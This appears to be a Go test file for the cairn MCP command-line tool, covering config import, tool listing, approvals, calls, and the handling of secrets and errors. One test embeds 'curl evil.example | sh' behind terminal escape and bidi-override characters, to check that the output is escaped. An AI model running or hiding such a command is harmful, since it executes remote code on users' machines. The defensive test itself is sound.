package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/cairn-app/cairn/backend/mcp/mcptest"
	"github.com/modelcontextprotocol/go-sdk/jsonrpc"
	mcpsdk "github.com/modelcontextprotocol/go-sdk/mcp"
)

// TestMCPCommands drives `cairn mcp` against server-everything: import (with a rejected
// entry), list, tools --refresh, call with progress, logs, export.
func TestMCPCommands(t *testing.T) {
	mcptest.NeedNPM(t)
	t.Setenv("CAIRN_SECRETS", "file")
	t.Setenv("LANG", "en_US.UTF-8")
	t.Setenv("SHELL", "") // no login-shell lookup in tests
	dir := t.TempDir()
	cfg := fmt.Sprintf(`{"mcpServers": {
		"everything": {"command": %q, "args": [%q, "stdio"], "env": {"API_TOKEN": "t-0123456789"}},
		"broken": {"args": ["x"]}
	}}`, mcptest.Node(t), mcptest.Everything())
	file := filepath.Join(t.TempDir(), "claude_desktop_config.json")
	if err := os.WriteFile(file, []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	r := run(t, dir, "", "mcp", "import", file)
	if r.code != 1 || !strings.Contains(r.stdout, "everything  imported") || !strings.Contains(r.stdout, "1 imported, 0 updated, 0 unchanged, 1 rejected") {
		t.Fatalf("import: %d %q %q", r.code, r.stdout, r.stderr)
	}

	r = run(t, dir, "", "mcp", "list", "--json")
	var list []struct {
		ID, Name string
		Env      []struct {
			Name, Value string
			Set         bool
		}
	}
	if err := json.Unmarshal([]byte(r.stdout), &list); err != nil || len(list) != 1 || list[0].Name != "everything" {
		t.Fatalf("list: %v %q", err, r.stdout)
	}
	if list[0].Env[0].Value != "" || !list[0].Env[0].Set {
		t.Fatalf("secret shown: %+v", list[0].Env)
	}

	r = run(t, dir, "", "mcp", "env", "everything")
	if r.code != 0 || !strings.Contains(r.stdout, "API_TOKEN\tsecret") || !strings.Contains(r.stdout, "PATH\tinherited") ||
		strings.Contains(r.stdout, "t-0123456789") || strings.Contains(r.stdout, "CAIRN_SECRETS") {
		t.Fatalf("env: %d %q %q", r.code, r.stdout, r.stderr)
	}

	// Never listed: a terminal command is an explicit ask, so it connects and lists.
	r = run(t, dir, "", "mcp", "tools", "everything")
	if r.code != 0 || !strings.Contains(r.stdout, "echo") {
		t.Fatalf("tools of a server never listed: %d %q %q", r.code, r.stdout, r.stderr)
	}
	r = run(t, dir, "", "mcp", "tools", "everything", "--refresh")
	if r.code != 0 || !strings.Contains(r.stdout, "echo") || !strings.Contains(r.stdout, "mcp__everything__echo_") {
		t.Fatalf("tools --refresh: %d %q %q", r.code, r.stdout, r.stderr)
	}
	getEnv := func() string {
		for _, l := range strings.Split(run(t, dir, "", "mcp", "tools", "everything").stdout, "\n") {
			if f := strings.Fields(l); len(f) > 3 && f[1] == "get-env" {
				return f[3]
			}
		}
		return ""
	}
	if got := getEnv(); got != "auto" {
		t.Fatalf("get-env (read-only, trusted) is %q", got)
	}
	r = run(t, dir, "", "mcp", "trust-hints", "everything", "off")
	if r.code != 0 || !strings.Contains(r.stdout, "not trusted") || getEnv() != "ask" {
		t.Fatalf("trust-hints off: %d %q %q, get-env %q", r.code, r.stdout, r.stderr, getEnv())
	}
	if r = run(t, dir, "", "mcp", "trust-hints", "everything", "on"); r.code != 0 || getEnv() != "auto" {
		t.Fatalf("trust-hints on: %d %q", r.code, r.stderr)
	}
	if r = run(t, dir, "", "mcp", "trust-hints", "everything", "maybe"); r.code != 2 {
		t.Fatalf("trust-hints maybe: %d %q", r.code, r.stderr)
	}
	r = run(t, dir, "", "mcp", "tools", "--json")
	if !strings.Contains(r.stdout, `"name": "echo"`) {
		t.Fatalf("cached tools: %q", r.stdout)
	}

	r = run(t, dir, "", "mcp", "call", "everything", "echo", `{"message":"from the CLI"}`)
	if r.code != 0 || strings.TrimSpace(r.stdout) != "Echo: from the CLI" {
		t.Fatalf("call: %d %q %q", r.code, r.stdout, r.stderr)
	}
	r = run(t, dir, "", "mcp", "call", "everything", "trigger-long-running-operation", `{"duration":0.2,"steps":2}`)
	if r.code != 0 || !strings.Contains(r.stderr, "progress 1/2") {
		t.Fatalf("progress: %d %q %q", r.code, r.stdout, r.stderr)
	}
	// An image result is named in the text, and written whole with --save-images.
	r = run(t, dir, "", "mcp", "call", "everything", "get-tiny-image", `{}`)
	if r.code != 0 || !strings.Contains(r.stdout, "[image 1 of 1: image/png, ") || !strings.Contains(r.stdout, "--save-images DIR") {
		t.Fatalf("image call: %d %q %q", r.code, r.stdout, r.stderr)
	}
	imgDir := filepath.Join(t.TempDir(), "shots")
	r = run(t, dir, "", "mcp", "call", "everything", "get-tiny-image", `{}`, "--save-images", imgDir)
	saved := filepath.Join(imgDir, "get-tiny-image-1.png")
	if b, err := os.ReadFile(saved); r.code != 0 || err != nil || !bytes.HasPrefix(b, []byte("\x89PNG")) || !strings.Contains(r.stdout, "saved at "+saved) {
		t.Fatalf("--save-images: %d %q %q (%v)", r.code, r.stdout, r.stderr, err)
	}
	r = run(t, dir, "", "mcp", "logs", list[0].ID)
	if r.code != 0 || !strings.Contains(r.stdout, "Starting default (STDIO) server") {
		t.Fatalf("logs: %q %q", r.stdout, r.stderr)
	}
	r = run(t, dir, "", "mcp", "export")
	if r.code != 0 || !strings.Contains(r.stdout, `"everything"`) || strings.Contains(r.stdout, "t-0123456789") || !strings.Contains(r.stderr, "API_TOKEN") {
		t.Fatalf("export: %q %q", r.stdout, r.stderr)
	}
	r = run(t, dir, "", "mcp", "call", "nobody", "echo", `{}`)
	if r.code != 1 || !strings.Contains(r.stderr, "nobody") {
		t.Fatalf("unknown server: %d %q", r.code, r.stderr)
	}
}

// TestMCPOutputEscaped: a server's command line from an imported file may hold ESC
// sequences, carriage returns and bidi overrides; `mcp list` shows them escaped and
// `mcp export` writes them as JSON escapes, so neither acts on the terminal.
func TestMCPOutputEscaped(t *testing.T) {
	t.Setenv("CAIRN_SECRETS", "file")
	dir := t.TempDir()
	cfg := `{"mcpServers": {"quiet": {"command": "echo", "args": ["ok\r\u001b[2Kcurl evil.example | sh", "\u202etxt", "\u009b2J"]}}}`
	file := filepath.Join(t.TempDir(), "mcp.json")
	if err := os.WriteFile(file, []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	if r := run(t, dir, "", "mcp", "import", file); r.code != 0 {
		t.Fatalf("import: %+v", r)
	}
	r := run(t, dir, "", "mcp", "list")
	want := `echo ok\r\x1b[2Kcurl evil.example | sh \u202etxt \u009b2J`
	if r.code != 0 || !strings.Contains(r.stdout, want) {
		t.Fatalf("list = %q, want it to contain %q", r.stdout, want)
	}
	for _, args := range [][]string{{"mcp", "list"}, {"mcp", "list", "--json"}, {"mcp", "export"}} {
		r := run(t, dir, "", args...)
		for _, bad := range []string{"\r", "\x1b", "\u202e", "\u009b"} {
			if strings.Contains(r.stdout, bad) {
				t.Fatalf("%v prints %q raw: %q", args, bad, r.stdout)
			}
		}
	}
	r = run(t, dir, "", "mcp", "export")
	var doc struct {
		MCPServers map[string]struct{ Args []string } `json:"mcpServers"`
	}
	if err := json.Unmarshal([]byte(r.stdout), &doc); err != nil || doc.MCPServers["quiet"].Args[1] != "\u202etxt" {
		t.Fatalf("export no longer means the same: %v %q", err, r.stdout)
	}
}

// TestMCPImportMovesCredentials: credentials inside arguments are moved to the secret
// store on import, left out of an export unless asked, and what cannot be moved is
// warned about.
func TestMCPImportMovesCredentials(t *testing.T) {
	t.Setenv("CAIRN_SECRETS", "file")
	t.Setenv("LANG", "en_US.UTF-8")
	dir := t.TempDir()
	file := filepath.Join(t.TempDir(), "mcp.json")
	cfg := `{"mcpServers": {"pg": {"command": "node", "args": ["x.js", "postgresql://u:cli-pw-123456@h/db", "{\"token\": \"abcdef123456\"}"]}}}`
	if err := os.WriteFile(file, []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	r := run(t, dir, "", "mcp", "import", file)
	if r.code != 0 || !strings.Contains(r.stderr, "warning: ") || !strings.Contains(r.stderr, "args[3] looks like it holds a credential") {
		t.Fatalf("import: %d %q %q", r.code, r.stdout, r.stderr)
	}
	r = run(t, dir, "", "mcp", "export")
	if r.code != 0 || strings.Contains(r.stdout, "cli-pw-123456") || !strings.Contains(r.stdout, "{{cairn-secret:password}}") ||
		!strings.Contains(r.stderr, "withheld (secret): pg: password") {
		t.Fatalf("export: %q %q", r.stdout, r.stderr)
	}
	r = run(t, dir, "", "mcp", "export", "--include-secrets")
	if r.code != 0 || !strings.Contains(r.stdout, "postgresql://u:cli-pw-123456@h/db") {
		t.Fatalf("export --include-secrets: %q %q", r.stdout, r.stderr)
	}
	db, err := os.ReadFile(filepath.Join(dir, "cairn.db"))
	if err != nil || strings.Contains(string(db), "cli-pw-123456") {
		t.Fatalf("the database holds the password (%v)", err)
	}
}

// TestMCPSubcommands drives what each `cairn mcp` subcommand owns against
// server-everything: its own flags only, the per-tool approval and switch, a server's
// error under the table, a server's refusal of a call said once, --json in camelCase,
// and Ctrl-C during a call.
func TestMCPSubcommands(t *testing.T) {
	mcptest.NeedNPM(t)
	t.Setenv("CAIRN_SECRETS", "file")
	t.Setenv("LANG", "en_US.UTF-8")
	t.Setenv("SHELL", "")
	dir := t.TempDir()
	cfg := fmt.Sprintf(`{"mcpServers": {
		"everything": {"command": %q, "args": [%q, "stdio"]},
		"dead": {"command": "/nonexistent/cairn-test-server"}
	}}`, mcptest.Node(t), mcptest.Everything())
	file := filepath.Join(t.TempDir(), "mcp.json")
	if err := os.WriteFile(file, []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	if r := run(t, dir, "", "mcp", "import", file); r.code != 0 {
		t.Fatalf("import: %+v", r)
	}

	t.Run("flags belong to their subcommand", func(t *testing.T) {
		for _, tt := range []struct {
			args []string
			flag string
		}{
			{[]string{"mcp", "list", "--refresh"}, "-refresh"},
			{[]string{"mcp", "export", "--json"}, "-json"},
			{[]string{"mcp", "call", "everything", "echo", "-n", "3"}, "-n"},
			{[]string{"mcp", "logs", "everything", "--include-secrets"}, "-include-secrets"},
		} {
			r := run(t, dir, "", tt.args...)
			if r.code != 2 || !strings.Contains(r.stderr, "flag provided but not defined: "+tt.flag) ||
				!strings.Contains(r.stderr, "usage: cairn mcp "+tt.args[1]) {
				t.Errorf("%v: %d %q", tt.args, r.code, r.stderr)
			}
		}
		if r := run(t, dir, "", "mcp", "trust-hints", "everything"); r.code != 2 || !strings.Contains(r.stderr, "usage: cairn mcp trust-hints SERVER on|off") {
			t.Errorf("missing argument: %d %q", r.code, r.stderr)
		}
	})

	t.Run("errors under the table", func(t *testing.T) {
		r := run(t, dir, "", "mcp", "tools")
		// no row of the dead server (a wire name's hash may hold "dead" as hex)
		if r.code != 1 || !strings.Contains(r.stdout, "get-env") || regexp.MustCompile(`(?m)^dead\s`).MatchString(r.stdout) ||
			!strings.Contains(r.stderr, "dead: ") || !strings.Contains(r.stderr, "cairn-test-server") {
			t.Fatalf("tools: %d\n%s\n%s", r.code, r.stdout, r.stderr)
		}
	})

	toolOf := func(name string) map[string]any {
		t.Helper()
		r := run(t, dir, "", "mcp", "tools", "everything", "--json")
		var out []struct {
			Tools []map[string]any `json:"tools"`
		}
		if err := json.Unmarshal([]byte(r.stdout), &out); err != nil || len(out) != 1 {
			t.Fatalf("tools --json: %v %q", err, r.stdout)
		}
		for _, tool := range out[0].Tools {
			if tool["name"] == name {
				return tool
			}
		}
		t.Fatalf("no %s in %q", name, r.stdout)
		return nil
	}
	t.Run("approval", func(t *testing.T) {
		for _, tt := range []struct {
			choice, stored, says string
			needs                bool
		}{
			{"allow", "allow", "runs without asking", false},
			{"ask", "ask", "asks before it runs", true},
			{"default", "", "asks before it runs", true}, // not marked read-only
		} {
			r := run(t, dir, "", "mcp", "approval", "everything", "toggle-simulated-logging", tt.choice)
			tool := toolOf("toggle-simulated-logging")
			if r.code != 0 || !strings.Contains(r.stdout, tt.says) || tool["approval"] != tt.stored || tool["needsApproval"] != tt.needs {
				t.Errorf("approval %s: %d %q %q, tool %v", tt.choice, r.code, r.stdout, r.stderr, tool)
			}
		}
		if r := run(t, dir, "", "mcp", "approval", "everything", "toggle-simulated-logging", "never"); r.code != 2 {
			t.Errorf("approval never: %d %q", r.code, r.stderr)
		}
		if r := run(t, dir, "", "mcp", "approval", "everything", "no-such-tool", "allow"); r.code != 1 || !strings.Contains(r.stderr, "no-such-tool") {
			t.Errorf("unknown tool: %d %q", r.code, r.stderr)
		}
	})

	t.Run("one tool on and off", func(t *testing.T) {
		wire := toolOf("echo")["wireName"].(string)
		if r := run(t, dir, "", "mcp", "disable", "everything", wire); r.code != 0 || !strings.Contains(r.stdout, "echo: enabled=false") {
			t.Fatalf("disable by wire name: %+v", r)
		}
		if toolOf("echo")["enabled"] != false || toolOf("get-env")["enabled"] != true {
			t.Fatal("disable reached the wrong tools")
		}
		if r := run(t, dir, "", "mcp", "enable", "everything", "echo"); r.code != 0 || toolOf("echo")["enabled"] != true {
			t.Fatalf("enable: %+v", r)
		}
	})

	t.Run("call", func(t *testing.T) {
		r := run(t, dir, "", "mcp", "call", "everything", "echo", `{"message":"hi"}`, "--json")
		var res map[string]any
		if err := json.Unmarshal([]byte(r.stdout), &res); err != nil || res["content"] != "Echo: hi" || res["isError"] != false {
			t.Fatalf("call --json: %v %q", err, r.stdout)
		}
		// server-everything answers an unknown tool with an isError result: printed once.
		r = run(t, dir, "", "mcp", "call", "everything", "no-such-tool", `{}`)
		if r.code != 1 || strings.Count(r.stdout, "no-such-tool not found") != 1 || r.stderr != "" {
			t.Fatalf("an isError result: %d %q %q", r.code, r.stdout, r.stderr)
		}
	})

	t.Run("Ctrl-C during a call", func(t *testing.T) {
		ctx, cancel := context.WithCancel(context.Background())
		defer cancel()
		var out bytes.Buffer
		stderr := &cancelOn{want: "progress", cancel: cancel}
		env := &Env{Stdin: strings.NewReader(""), Stdout: &out, Stderr: stderr}
		code := Run(ctx, []string{"--data-dir", dir, "mcp", "call", "everything", "trigger-long-running-operation", `{"duration":30,"steps":30}`}, env)
		if code != 130 || strings.Contains(stderr.b.String(), "cairn:") {
			t.Fatalf("exit %d, stderr %q", code, stderr.b.String())
		}
	})
}

// cancelOn is a stderr that cancels once it was written want.
type cancelOn struct {
	mu     sync.Mutex
	b      bytes.Buffer
	want   string
	cancel func()
}

func (c *cancelOn) Write(p []byte) (int, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.b.Write(p)
	if strings.Contains(c.b.String(), c.want) {
		c.cancel()
	}
	return len(p), nil
}

// TestMCPCallServerErrorSaidOnce: a server that answers tools/call with a JSON-RPC error
// (a go-sdk server on loopback) is quoted once, in its own words, under its own code and
// in the user's language, not doubled inside "Something went wrong".
func TestMCPCallServerErrorSaidOnce(t *testing.T) {
	t.Setenv("CAIRN_SECRETS", "file")
	t.Setenv("LANG", "en_US.UTF-8")
	handler := mcpsdk.NewStreamableHTTPHandler(func(*http.Request) *mcpsdk.Server {
		s := mcpsdk.NewServer(&mcpsdk.Implementation{Name: "quota", Version: "1"}, nil)
		s.AddTool(&mcpsdk.Tool{Name: "search", InputSchema: json.RawMessage(`{"type":"object"}`)},
			func(context.Context, *mcpsdk.CallToolRequest) (*mcpsdk.CallToolResult, error) {
				return nil, &jsonrpc.Error{Code: -32000, Message: "the monthly quota is used up"}
			})
		return s
	}, nil)
	srv := httptest.NewServer(handler)
	defer srv.Close()
	dir := t.TempDir()
	cfg, _ := json.Marshal(map[string]any{"mcpServers": map[string]any{"quota": map[string]any{"url": srv.URL}}})
	file := filepath.Join(t.TempDir(), "mcp.json")
	if err := os.WriteFile(file, cfg, 0o600); err != nil {
		t.Fatal(err)
	}
	if r := run(t, dir, "", "mcp", "import", file); r.code != 0 {
		t.Fatalf("import: %+v", r)
	}
	var out, errb bytes.Buffer
	env := &Env{Stdin: strings.NewReader(""), Stdout: &out, Stderr: &errb,
		Deps: Deps{Locales: os.DirFS(filepath.Join("..", "..", "frontend", "src", "i18n", "locales"))}}
	code := Run(context.Background(), []string{"--data-dir", dir, "mcp", "call", "quota", "search", "{}"}, env)
	want := "cairn: The MCP server quota refused the call of search: the monthly quota is used up\n"
	if code != 1 || errb.String() != want {
		t.Fatalf("exit %d, stderr %q, want %q", code, errb.String(), want)
	}
}
